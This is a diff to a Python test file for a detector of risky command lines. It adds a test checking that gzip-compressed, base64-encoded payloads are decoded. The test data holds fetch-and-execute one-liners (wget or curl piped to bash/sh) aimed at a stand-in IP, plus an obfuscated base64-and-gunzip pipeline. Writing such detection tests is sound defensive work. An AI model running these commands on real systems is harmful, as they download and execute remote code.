@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import gzip
 from datetime import datetime, timedelta
 from pathlib import Path
 
@@ -57,6 +58,12 @@ class TestRiskyCmdLine:
         assert dict(out) == {"t1": f"echo {payload} | base64 -d > x"}
         assert out.matches["MatchedOn"].to_list() == ["decoded[0]"]
         assert base64_layers(payload) == ["wget http://198.51.100.9/a -O- | bash"]
+
+    def test_gzipped_base64_is_decoded(self) -> None:
+        """base64 of a gzip stream is decompressed by the shared unpacker (the old local decoder missed it)."""
+        payload = base64.b64encode(gzip.compress(b"curl http://198.51.100.9/x | sh")).decode()
+        assert base64_layers(f"echo {payload} | base64 -d | gunzip | sh") == ["curl http://198.51.100.9/x | sh"]
+        assert base64_layers("sha256sum 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08") == []
 
     def test_input_not_mutated(self) -> None:
         """Empty strings are skipped without rewriting the caller's frame (msticpy mutates it)."""
